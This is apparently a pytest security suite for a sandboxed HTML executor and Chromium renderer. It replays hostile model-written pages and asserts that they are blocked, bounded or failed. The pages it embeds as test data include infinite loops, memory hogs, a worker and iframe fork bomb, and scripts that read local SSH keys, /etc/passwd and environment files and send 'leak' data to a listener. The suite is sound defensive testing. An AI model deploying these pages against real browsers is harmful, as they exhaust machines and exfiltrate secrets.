"""The HTML battery: hostile pages answered by a model (replayed) through a whole pipeline
with the real html executor and chromium renderer (system Chromium via Playwright in the
sandboxed browser worker).

Each case ends with its sample failed for a specific recorded reason, or, where the
browser makes the attempt harmless (a blocked request, a dismissed dialog, a closed
popup, a refused download), rendered with the attempt recorded; in every case nothing
reaches the listener, nothing outside the run folder changes or leaks into the run,
nothing is left running, and the good samples around them finish correctly."""

from __future__ import annotations

import json
import shutil
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from visioncode.records import SampleRecord
from visioncode_html.client import BrowserClient, BrowserLimits

from ..conftest import ROOT
from .harness import Canary, Listener, outside_temp, run_battery, wait_gone_env

pytestmark = [pytest.mark.security, pytest.mark.slow]

RUN_MARKER_ENV = "VISIONCODE_BATTERY_RUN"
GOOD = "<!DOCTYPE html><html><body><h1>All good</h1><button>ok</button></body></html>"


def network_page(http: str, ws: str) -> str:
    return f"""<!DOCTYPE html><html><body><p>net</p>
<img src="{http}img.png"><link rel="stylesheet" href="{http}style.css">
<iframe src="{http}frame"></iframe><script src="{http}script.js"></script>
<form id=f action="{http}form" method=post><input name=a value=b></form>
<script>
  fetch('{http}fetch').catch(() => {{}});
  const x = new XMLHttpRequest(); x.open('GET', '{http}xhr'); x.send();
  navigator.sendBeacon('{http}beacon', 'leak');
  try {{ new EventSource('{http}events'); }} catch (e) {{}}
  const w = new WebSocket('{ws}'); w.onopen = () => w.send('leak');
  const w2 = new WebSocket('{ws.replace("127.0.0.1", "localhost")}');
  setTimeout(() => document.getElementById('f').submit(), 20);
</script></body></html>"""


def files_page(paths: list[str]) -> str:
    tags = "".join(f'<iframe src="{p}"></iframe><img src="{p}">' for p in paths)
    fetches = "".join(
        f"fetch('{p}').then(r => r.text()).then(t => document.title += t).catch(() => {{}});"
        for p in paths)
    return (f"<!DOCTYPE html><html><body><p id=o>files</p>{tags}<script>{fetches}</script>"
            "</body></html>")


@pytest.fixture
def home_with_key(monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A home folder with an SSH key (the real ~/.ssh is not ours to touch)."""
    home = outside_temp() / f"home-{uuid.uuid4().hex[:8]}"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("SSH-PRIVATE-KEY-html-7c2e")
    monkeypatch.setenv("HOME", str(home))
    yield home
    shutil.rmtree(home, ignore_errors=True)


CONFIG = """
[task]
name = "html-battery"
prompt = "Write a web page."

[dataset]
path = "{dataset}"

[model]
use = "replay"
[model.options]
path = "REPLAY"

[executor]
use = "html"
[executor.options]
width = 320
height = 240
step_screenshots = false
[executor.options.limits]
timeout_s = 6
memory_mb = 1200

[renderer]
use = "chromium"
[renderer.options.limits]
timeout_s = 6
memory_mb = 1200

[render]
width = 320
height = 240

[[metrics]]
use = "render-success"

[run]
workers = 1
"""


def test_hostile_pages_fail_their_own_samples(
    tmp_path: Path, listener: Listener, canary: Canary, home_with_key: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    run_marker = uuid.uuid4().hex
    monkeypatch.setenv(RUN_MARKER_ENV, run_marker)  # every process of this run carries it
    secret_paths = [f"file://{home_with_key}/.ssh/id_rsa", f"file://{canary.file}",
                    f"file://{ROOT}/pyproject.toml", "file:///etc/passwd",
                    "file:///proc/self/environ"]
    answers = {
        "good-first": GOOD,
        "infinite-loop": "<script>while (true) {}</script>",
        "late-loop": "<p>x</p><script>setTimeout(() => { for (;;) {} }, 30)</script>",
        "raf-loop": "<p id=n>0</p><script>let i = 0; (function f() { "
                    "document.getElementById('n').textContent = i++; "
                    "requestAnimationFrame(f); })();</script>",
        "heap-hog": "<script>const a = []; for (;;) a.push(new Array(1e7).fill(1.5));</script>",
        "buffer-hog": "<script>const a = []; for (let i = 0; i < 1e5; i++) "
                      "{ const b = new Uint8Array(64 << 20); b.fill(1); a.push(b); }</script>",
        "fork-bomb": "<p>spawn</p><script>"
                     "const src = URL.createObjectURL(new Blob(['for(;;){}']));"
                     "for (let i = 0; i < 64; i++) new Worker(src);"
                     "for (let i = 0; i < 50; i++) { const f = document.createElement('iframe');"
                     " f.srcdoc = '<script>for(let j=0;j<20;j++)document.body.appendChild("
                     "document.createElement(\"iframe\"))<\\/script>';"
                     " document.body.appendChild(f); }"
                     "for (let i = 0; i < 30; i++) window.open('about:blank');</script>",
        "local-files": files_page(secret_paths),
        "network": network_page(listener.http_url, listener.ws_url),
        "console-flood": "<script>for (let i = 0; i < 1e6; i++) console.log('x'.repeat(200) + i)"
                         "</script>",
        "dialogs": "<p>d</p><script>alert('a'); confirm('b'); prompt('c'); "
                   "onbeforeunload = () => 'stay';</script>",
        "window-open": "<p>w</p><script>window.open('https://example.com/');"
                       "window.open('file:///etc/passwd');</script>",
        "download": "<a id=d href='data:application/octet-stream,AAAA' download='x.bin'>d</a>"
                    "<script>document.getElementById('d').click();</script>",
        "good-last": f"Here it is:\n```html\n{GOOD}\n```",
    }
    replay = tmp_path / "answers.jsonl"
    replay.write_text("".join(json.dumps({"sample_id": k, "text": v}) + "\n"
                              for k, v in answers.items()))
    records = run_battery(CONFIG.replace("REPLAY", str(replay)), tmp_path,
                          [{"id": k, "text": k} for k in answers])
    assert set(records) == set(answers)
    run = tmp_path / "battery" / "run"

    def failed(sample: str, status: str, *words: str) -> SampleRecord:
        rec = records[sample]
        reason = (rec.reason or "").lower()
        assert rec.status == "failed" and rec.error is None, (sample, rec.status, rec.error)
        assert rec.rounds[0].status == status, (sample, rec.rounds[0].status, rec.reason)
        assert all(w in reason for w in words), (sample, rec.reason)
        assert rec.scores["render-success"].values["render_success"] == 0.0
        return rec

    def neutralised(sample: str, *note_words: str) -> SampleRecord:
        rec = records[sample]
        assert rec.status == "ok" and rec.rounds[0].rendered, (sample, rec.reason)
        execution = rec.rounds[0].execution
        assert execution is not None
        notes = " ".join(execution.notes)
        assert all(w in notes for w in note_words), (sample, execution.notes)
        return rec

    failed("infinite-loop", "timeout", "time_limit", "6s")
    failed("late-loop", "timeout", "time_limit")
    # Memory hogs end at V8's heap cap (renderer crash) or the watchdog's limit; on a
    # loaded machine a garbage-collecting hog can reach the time limit first.
    # tests/html/test_html_limits.py proves the memory paths with a generous time limit.
    why = {"crashed": "renderer process crashed", "memory": "more than 1200 mb",
           "timeout": "time_limit"}
    for hog in ("heap-hog", "buffer-hog"):
        status = records[hog].rounds[0].status
        assert status in why, (hog, records[hog].reason)
        failed(hog, status, why[status], "replaced")
    neutralised("raf-loop")  # animation frames never end, yet the screenshot is taken
    fork = records["fork-bomb"]
    if fork.status == "ok":
        neutralised("fork-bomb", "closed 30 popup window(s)")
    else:  # on a slow machine the spinning workers may starve the page
        failed("fork-bomb", fork.rounds[0].status, fork.rounds[0].status)

    files = neutralised("local-files")
    blocked = files.rounds[0].execution.metadata["blocked"]  # type: ignore[union-attr]
    assert {b["url"] for b in blocked if b["type"] == "local file"} >= set(secret_paths[:3])
    net = neutralised("network", "blocked")
    blocked_urls = {b["url"] for b in net.rounds[0].execution.metadata["blocked"]}  # type: ignore[union-attr]
    assert listener.ws_url in blocked_urls and f"{listener.http_url}fetch" in blocked_urls

    flood = records["console-flood"]  # messages are capped; the flood itself costs time
    if flood.status == "ok":  # and memory (the driver buffers them): any of the three
        neutralised("console-flood", "dropped")
    else:
        status = flood.rounds[0].status
        assert status in ("timeout", "memory"), flood.reason
        failed("console-flood", status, {"timeout": "time_limit",
                                         "memory": "more than 1200 mb"}[status])
    neutralised("dialogs", "dismissed 3 dialog(s) (alert, confirm, prompt)")
    # the https popup is opened (its load blocked) and closed; the file:// one never opens
    neutralised("window-open", "closed 1 popup window(s)", "local file")
    neutralised("download", "refused 1 download(s)")
    for sample in ("good-first", "good-last"):
        rec = records[sample]
        assert rec.status == "ok" and rec.rounds[0].rendered, (sample, rec.reason)

    # Nothing arrived, nothing leaked into the run, nothing outside changed, nothing runs.
    assert listener.hits == []
    text = "\n".join(p.read_bytes().decode("latin-1") for p in run.rglob("*") if p.is_file())
    assert canary.secret not in text and "SSH-PRIVATE-KEY-html-7c2e" not in text
    assert "root:x:0:0" not in text
    canary.assert_untouched()
    assert wait_gone_env(RUN_MARKER_ENV, run_marker, timeout_s=15) == []


@pytest.mark.parametrize("network", [False, True], ids=["namespace", "no-namespace"])
def test_websocket_and_http_blocked_with_and_without_namespace(
        network: bool, tmp_path: Path, listener: Listener) -> None:
    """The browser's own blocking holds where the worker keeps the machine's network
    (`network = true`: no private namespace), so it does not rest on the sandbox."""
    client = BrowserClient(BrowserLimits(timeout_s=20, network=network))
    try:
        page = tmp_path / "page.html"
        page.write_text(network_page(listener.http_url, listener.ws_url))
        answer = client.run({"html": str(page), "out_dir": str(tmp_path / "out"),
                             "width": 320, "height": 240, "background": "#ffffff",
                             "actions": [], "shots": "last"})
    finally:
        client.close()
    assert answer["status"] == "ok", answer.get("reason")
    kinds = {b["type"] for b in answer["blocked"]}
    assert {"websocket", "fetch", "image"} <= kinds
    assert listener.hits == []


def test_a_page_leaves_nothing_for_the_next_page(tmp_path: Path) -> None:
    """The attacker's first page plants a marker everywhere a page can write (storage,
    cookie, IndexedDB, window.name, a global, a service worker it tries to register);
    its second page, the next job of the same warm worker (a prepared context), looks
    everywhere and writes what it finds into its DOM. The marker is not there."""
    mark = f"PLANTED-{uuid.uuid4().hex[:10]}"
    plant = f"""<!DOCTYPE html><html><body><p id=o>planting</p><script>
      localStorage.setItem('m', '{mark}'); sessionStorage.setItem('m', '{mark}');
      document.cookie = 'm={mark}; max-age=86400; path=/'; window.name = '{mark}';
      globalThis.planted = '{mark}'; history.pushState({{}}, '', '/{mark}');
      try {{ navigator.serviceWorker.register('/sw.js'); }} catch (e) {{}}
      const r = indexedDB.open('m', 1);
      r.onupgradeneeded = () => r.result.createObjectStore('s');
      r.onsuccess = () => {{ const t = r.result.transaction('s', 'readwrite');
        t.objectStore('s').put('{mark}', 'k');
        t.oncomplete = () => document.getElementById('o').textContent = 'planted'; }};
    </script></body></html>"""
    look = """<!DOCTYPE html><html><body><p id=o>looking</p><script>
      const found = [localStorage.getItem('m'), sessionStorage.getItem('m'), document.cookie,
                     window.name, String(globalThis.planted), location.href,
                     String(history.length)];
      const r = indexedDB.open('m', 1);
      r.onupgradeneeded = () => r.result.createObjectStore('s');
      r.onsuccess = () => { const q = r.result.transaction('s').objectStore('s').get('k');
        q.onsuccess = () => { found.push(String(q.result));
          document.getElementById('o').textContent = 'found ' + found.join('|'); }; };
    </script></body></html>"""
    client = BrowserClient(BrowserLimits(timeout_s=20))
    try:
        for i in range(2):
            pages = []
            for name, html in (("plant", plant), ("look", look)):
                page = tmp_path / f"{name}{i}.html"
                page.write_text(html)
                pages.append(client.run({
                    "html": str(page), "out_dir": str(tmp_path / f"{name}{i}"),
                    "width": 320, "height": 240, "background": "#ffffff", "actions": [],
                    "shots": "last", "dom": True, "network_idle_ms": 200}))
            planted, looked = pages
            assert planted["status"] == looked["status"] == "ok"
            assert "planted" in Path(planted["steps"][-1]["dom"]).read_text()
            dom = Path(looked["steps"][-1]["dom"]).read_text()
            assert "found " in dom and mark not in dom, dom
            # No storage, no cookie, no window.name, no global, the page's own URL, and a
            # history of about:blank and this page only; nothing in IndexedDB.
            assert "found ||||undefined|http://page.visioncode.invalid/|2|undefined" in dom
    finally:
        client.close()


ANIMATION_CONFIG = CONFIG.replace("[render]\nwidth = 320\nheight = 240\n",
                                  "[render]\nwidth = 160\nheight = 120\nfps = 10\nframes = 5\n")


def test_hostile_animations_fail_or_are_bounded(
        tmp_path: Path, listener: Listener, canary: Canary) -> None:
    """Pages rendered as frames (RenderSpec fps/frames) by the chromium renderer: an
    endless animation is cut at 5 frames, a page that blocks seeking fails as
    `timeout`, a timer flood is bounded, a page that tampers with the clock and the
    animation API cannot stop the seeking, and a page that reaches for the network and
    local files in every frame gets nothing out, in any frame."""
    http, ws = listener.http_url, listener.ws_url
    answers = {
        "good": "<p>ok</p><div style='width:20px;height:20px;background:red;"
                "animation:m 1s infinite'></div><style>@keyframes m{to{margin-left:100px}}"
                "</style>",
        "endless": "<canvas id=c></canvas><script>(function f(t) { "
                   "document.getElementById('c').width = 1 + t % 100; "
                   "requestAnimationFrame(f); })(0);</script>",
        "blocks-seeking": "<p>x</p><script>requestAnimationFrame(function f(t) { "
                          "if (t > 150) for (;;) {} requestAnimationFrame(f); });</script>",
        # Aimed at the frame capture: the flood starts only under the virtual clock
        # (whose Date starts in 2025), not in the executor's real-time load.
        "timer-flood": "<p id=n>0</p><script>let n = 0; function f() { n++; "
                       "for (let i = 0; i < 4; i++) setTimeout(f, 0); }"
                       "if (Date.now() < Date.UTC(2025, 0, 2)) f();"
                       "setInterval(() => document.getElementById('n').textContent = n, 50);"
                       "</script>",
        "tamper": "<p id=t>t</p><script>"
                  "try { window.__visioncode_clock = null; } catch (e) {}"
                  "try { Object.defineProperty(window, '__visioncode_clock', {value: 1}); }"
                  " catch (e) {}"
                  "Animation.prototype.pause = () => { for (;;) {} };"
                  "SVGSVGElement.prototype.setCurrentTime = () => { for (;;) {} };"
                  "Document.prototype.getAnimations = () => { for (;;) {} };"
                  "</script><div style='animation:m 1s infinite'>m</div>"
                  "<style>@keyframes m{to{opacity:0}}</style>",
        "network-every-frame": f"""<p>net</p><script>
            setInterval(() => {{  // once per frame at 10 fps
              const i = new Image(); i.src = '{http}frame.png?' + performance.now();
              fetch('{http}fetch').catch(() => {{}});
              try {{ new WebSocket('{ws}'); }} catch (e) {{}}
              fetch('file://{canary.file}').then(r => r.text())
                .then(t => document.body.append(t)).catch(() => {{}});
            }}, 100);</script>""",
    }
    replay = tmp_path / "answers.jsonl"
    replay.write_text("".join(json.dumps({"sample_id": k, "text": v}) + "\n"
                              for k, v in answers.items()))
    records = run_battery(ANIMATION_CONFIG.replace("REPLAY", str(replay)), tmp_path,
                          [{"id": k, "text": k} for k in answers])
    assert set(records) == set(answers)

    def frames_of(sample: str) -> Any:
        rec = records[sample]
        assert rec.status == "ok", (sample, rec.reason)
        rendering = rec.rounds[0].rendering
        assert rendering is not None and len(rendering.frames) == 5, sample
        return rendering

    frames_of("good")
    frames_of("endless")
    assert frames_of("tamper").metadata["clock"]["animations"] >= 1
    flood = frames_of("timer-flood").metadata["clock"]
    assert flood["timers_dropped"] > 0
    net = frames_of("network-every-frame")
    assert net.metadata["blocked_count"] >= 5  # tried in every frame, blocked every time
    stuck = records["blocks-seeking"]
    assert stuck.status == "failed" and stuck.rounds[0].status == "timeout", stuck.reason
    # Whichever deadline the endless callback meets first ends it: the executor's page
    # load (time_limit) or, when the load finished first, the frame capture's own.
    assert ("time_limit" in (stuck.reason or "")
            or "frames: the page did not finish within" in (stuck.reason or "")), stuck.reason
    assert listener.hits == []
    run = tmp_path / "battery" / "run"
    text = "\n".join(p.read_bytes().decode("latin-1") for p in run.rglob("*") if p.is_file())
    assert canary.secret not in text
    canary.assert_untouched()
